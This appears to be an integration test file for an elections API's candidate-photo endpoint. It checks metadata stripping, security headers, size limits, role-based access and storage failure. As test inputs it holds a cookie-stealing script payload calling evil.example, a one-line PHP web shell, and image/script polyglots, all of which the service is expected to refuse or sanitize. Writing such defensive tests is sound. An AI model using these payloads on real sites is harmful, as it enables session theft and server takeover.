import { request as httpRequest, type IncomingMessage } from 'node:http';
import sharp from 'sharp';
import { ObjectStore } from '#platform/storage';
import { createTestStorage, openTcpProxy, type TcpProxy } from '#platform/testing';
import type { ApiUnderTest } from './api-under-test.js';
import { ElectionsClient, startElectionsApi, type Polls, type Seen } from './elections-client.js';
import { bearer } from './identity-client.js';

const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>';
const MEGABYTE = 1024 * 1024;

let proxy: TcpProxy;
let api: ApiUnderTest;
let owner: ElectionsClient;
let editor: ElectionsClient;
let auditor: ElectionsClient;
let stranger: ElectionsClient;
let polls: Polls;
let count = 0;

beforeAll(async () => {
  const storage = await createTestStorage();
  proxy = await openTcpProxy(new URL(storage.STORAGE_ENDPOINT));
  const STORAGE_ENDPOINT = `http://127.0.0.1:${proxy.port}`;
  api = await startElectionsApi({ ...storage, STORAGE_ENDPOINT });
  owner = await ElectionsClient.signUp(api, 'owner@exemple.ga');
  editor = await ElectionsClient.signUp(api, 'editor@exemple.ga');
  auditor = await ElectionsClient.signUp(api, 'auditor@exemple.ga');
  stranger = await ElectionsClient.signUp(api, 'stranger@exemple.ga');
});

afterAll(async () => {
  await api.stop();
  await proxy.kill();
});

beforeEach(async () => {
  count += 1;
  polls = await owner.prepare({ code: `PHOTO-${count}` });
});

async function picture(colour = '#c02020', width = 60): Promise<Buffer> {
  const create = { width, height: 40, channels: 3, background: colour } as const;
  return sharp({ create }).jpeg().toBuffer();
}

async function ask(
  method: string,
  client = owner,
  { query = '', body, type }: { query?: string; body?: Buffer | FormData; type?: string } = {},
): Promise<Response> {
  return fetch(`${api.url}/api/candidates/${polls.candidate}/photo${query}`, {
    method,
    headers: { ...bearer(client.token), ...(type === undefined ? {} : { 'content-type': type }) },
    ...(body === undefined ? {} : { body }),
  });
}

async function put(
  bytes: Buffer,
  { client = owner, type = 'image/jpeg', query = '' } = {},
): Promise<{ readonly status: number; readonly body: Seen }> {
  const response = await ask('PUT', client, { query, body: bytes, type });
  return { status: response.status, body: (await response.json()) as Seen };
}

async function candidate(): Promise<Seen> {
  return (await owner.get(`candidates/${polls.candidate}`)).body;
}

async function stored(): Promise<readonly string[]> {
  const prefix = `elections/${polls.election}/`;
  const { objects } = await api.app.get(ObjectStore).list(prefix, { limit: 100 });
  return objects.map(({ key }) => key);
}

async function picked(response: Response): Promise<Buffer> {
  return Buffer.from(await response.arrayBuffer());
}

describe('the photo of a candidate', () => {
  it('is set, shown, replaced and removed, and its address changes with it', async () => {
    expect((await candidate())['photo']).toBeNull();
    expect((await ask('GET')).status).toBe(404);
    const first = await put(await picture());
    expect(first.status).toBe(200);
    const address = String(first.body['photo']);
    expect(address).toMatch(new RegExp(`^/api/candidates/${polls.candidate}/photo\\?v=[0-9a-f]+$`));
    const shown = await fetch(`${api.url}${address}`, { headers: bearer(owner.token) });
    expect(await sharp(await picked(shown)).metadata()).toMatchObject({
      format: 'jpeg',
      width: 60,
    });

    const second = await put(await picture('#2020c0'));
    expect(second.body['photo']).not.toBe(address);
    expect((await candidate())['photo']).toBe(second.body['photo']);
    const { dominant } = await sharp(await picked(await ask('GET'))).stats();
    expect(dominant.b).toBeGreaterThan(dominant.r);

    expect((await ask('DELETE')).status).toBe(204);
    expect((await candidate())['photo']).toBeNull();
    const gone = await ask('GET');
    expect(gone.status).toBe(404);
    expect(await gone.json()).toMatchObject({ code: 'photo_not_found' });
    expect((await ask('DELETE')).status).toBe(204);
  });

  it('may come in a form, from any format of the three, and is always a JPEG with its safeguards', async () => {
    for (const format of ['png', 'webp', 'jpeg'] as const) {
      const form = new FormData();
      const bytes = await sharp(await picture())
        .toFormat(format)
        .toBuffer();
      form.set('photo', new Blob([new Uint8Array(bytes)], { type: `image/${format}` }), 'me.html');
      expect((await ask('PUT', owner, { body: form })).status).toBe(200);
      const shown = await ask('GET');
      expect(Object.fromEntries(shown.headers)).toMatchObject({
        'content-type': 'image/jpeg',
        'x-content-type-options': 'nosniff',
        'cache-control': 'private, max-age=86400',
        'content-security-policy': expect.stringContaining("default-src 'none'") as string,
      });
      expect((await sharp(await picked(shown)).metadata()).format).toBe('jpeg');
    }
  });

  it('that is the one already there changes nothing and is no news for the trail', async () => {
    const bytes = await picture();
    const { body } = await put(bytes);
    expect((await put(bytes)).body.version).toBe(body.version);
    const trail = await owner.must(
      'GET',
      `audit?election_id=${polls.election}&action=candidate.photo_changed`,
    );
    expect(trail.items).toHaveLength(1);
    expect(trail.items[0]).toMatchObject({ before: { photo_sha256: null } });
  });

  it('says nothing of where and with what it was taken', async () => {
    const sent = await sharp(await picture())
      .withExif({
        IFD0: { Make: 'SecretCamera', Copyright: SCRIPT },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '0/1 23/1 24/1' },
      })
      .jpeg()
      .toBuffer();
    expect(sent.includes('SecretCamera')).toBe(true);
    expect((await put(sent)).status).toBe(200);
    const bytes = await picked(await ask('GET'));
    expect((await sharp(bytes).metadata()).exif).toBeUndefined();
    for (const word of ['Secret', 'Exif', 'GPS', 'script'])
      expect(bytes.includes(word)).toBe(false);
  });

  it('with a page hidden in its comment is shown without the page', async () => {
    const jpeg = await picture();
    const comment = Buffer.from(
      `\xff\xfe\0${String.fromCharCode(SCRIPT.length + 2)}${SCRIPT}`,
      'latin1',
    );
    const sent = Buffer.concat([
      jpeg.subarray(0, 2),
      comment,
      jpeg.subarray(2),
      Buffer.from(SCRIPT),
    ]);
    expect((await put(sent)).status).toBe(200);
    expect((await picked(await ask('GET'))).includes('script')).toBe(false);
  });
});

describe('a photo that is a script', () => {
  const magic = Buffer.from('\xff\xd8\xff\xe0', 'latin1');

  it.each<[string, Buffer, string]>([
    ['SVG', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`), 'image/png'],
    ['HTML', Buffer.from(`<!doctype html>${SCRIPT}`), 'image/jpeg'],
    ['HTML behind the mark of a JPEG', Buffer.concat([magic, Buffer.from(SCRIPT)]), 'image/jpeg'],
    ['PHP named .jpg', Buffer.from('<?php system($_GET["c"]); ?>'), 'application/octet-stream'],
    ['GIF and JavaScript', Buffer.from('GIF89a/*\0\0*/=1;alert(1)'), 'image/png'],
  ])('as %s is refused, and nothing of it is stored', async (_, bytes, type) => {
    const form = new FormData();
    form.set('photo', new Blob([new Uint8Array(bytes)], { type: 'image/jpeg' }), 'me.jpg');
    const inForm = await ask('PUT', owner, { body: form });
    expect(await inForm.json()).toMatchObject({ status: 422, code: 'photo_refused' });
    const refused = await put(bytes, { type });
    expect(refused).toMatchObject({ status: 422, body: { code: 'photo_refused' } });
    expect(refused.body.errors?.[0]?.field).toBe('photo');
    expect(await stored()).toEqual([]);
    expect((await candidate())['photo']).toBeNull();
  });

  it('says so honestly, and is refused by its type', async () => {
    const answer = await put(Buffer.from(SCRIPT), { type: 'image/svg+xml' });
    expect(answer).toMatchObject({ status: 415, body: { code: 'unsupported_media_type' } });
  });
});

/** Sends pieces of a body without a length until it is answered; tells how much had left by then. */
async function pour(total: number): Promise<{ readonly status: number; readonly sent: number }> {
  return new Promise((resolve, reject) => {
    let sent = 0;
    let response: IncomingMessage | undefined;
    const request = httpRequest(`${api.url}/api/candidates/${polls.candidate}/photo`, {
      method: 'PUT',
      headers: { ...bearer(owner.token), 'content-type': 'image/jpeg' },
    });
    request.on('error', reject).on('response', (answer) => {
      response = answer;
      answer.resume().on('end', () => {
        request.end();
        resolve({ status: answer.statusCode ?? 0, sent });
      });
    });
    const piece = Buffer.alloc(64 * 1024, 0xff);
    const next = (): void => {
      if (response !== undefined || sent >= total) return;
      sent += piece.length;
      request.write(piece, () => setTimeout(next, 1));
    };
    next();
  });
}

describe('a photo that is too large', () => {
  it('of 6 MB is answered with 413 while it is sent, and nothing is stored', async () => {
    const { status, sent } = await pour(20 * MEGABYTE);
    expect(status).toBe(413);
    expect(sent).toBeLessThan(8 * MEGABYTE);
    const declared = await put(Buffer.alloc(6 * MEGABYTE));
    expect(declared).toMatchObject({ status: 413, body: { code: 'body_too_large' } });
    expect(await stored()).toEqual([]);
  });
});

describe('who may touch a photo', () => {
  it('is the team by its roles, and nobody else learns that there is a candidate', async () => {
    await owner.bring(editor, polls.election, 'editor');
    await owner.bring(auditor, polls.election, 'auditor');
    const bytes = await picture();
    expect((await put(bytes, { client: editor })).status).toBe(200);
    expect(await put(bytes, { client: auditor })).toMatchObject({
      status: 403,
      body: { code: 'role_insufficient' },
    });
    expect((await ask('DELETE', auditor)).status).toBe(403);
    expect((await ask('GET', auditor)).status).toBe(200);
    for (const method of ['GET', 'DELETE']) {
      const answer = await ask(method, stranger);
      expect(await answer.json()).toMatchObject({ status: 404, code: 'candidate_not_found' });
    }
    const unknown = await put(bytes, { client: stranger });
    expect(unknown).toMatchObject({ status: 404, body: { code: 'candidate_not_found' } });
    const anonymous = await fetch(`${api.url}/api/candidates/${polls.candidate}/photo`);
    expect(anonymous.status).toBe(401);
  });

  it('stands still once voting has begun, save by an amendment of an owner, which the trail tells', async () => {
    await owner.bring(editor, polls.election, 'editor');
    await put(await picture());
    await owner.open(polls.election);
    const other = await picture('#20c020');
    expect(await put(other)).toMatchObject({ status: 409, body: { code: 'frozen' } });
    expect((await ask('DELETE')).status).toBe(409);
    const query = '?amendment_reason=Photo%20d%27un%20autre';
    expect((await put(other, { client: editor, query })).status).toBe(403);
    const amended = await put(other, { query });
    expect(amended.status).toBe(200);
    const trail = await owner.must(
      'GET',
      `audit?election_id=${polls.election}&action=candidate.photo_changed&limit=1`,
    );
    expect(trail.items[0]).toMatchObject({ after: { amendment_reason: "Photo d'un autre" } });
    expect((await ask('DELETE', owner, { query })).status).toBe(204);
  });
});

describe('an object store that is away', () => {
  it('is a 503 within its bound, and the candidate keeps the photo that it had', async () => {
    const before = await put(await picture());
    const kept = { photo: before.body['photo'], version: before.body.version };
    proxy.stall();
    const started = performance.now();
    const hanging = await put(await picture('#101010'));
    expect(hanging).toMatchObject({ status: 503, body: { code: 'storage_unavailable' } });
    expect(performance.now() - started).toBeLessThan(12_000);
    expect(await candidate()).toMatchObject(kept);

    await proxy.kill();
    const gone = await put(await picture('#101010'));
    expect(gone).toMatchObject({ status: 503, body: { code: 'storage_unavailable' } });
    expect(await candidate()).toMatchObject(kept);
    const shown = await ask('GET');
    expect(shown.status).toBe(503);
    expect(shown.headers.get('content-type')).toContain('application/problem+json');
    expect(shown.headers.get('cache-control')).toBe('no-store');
  });
});
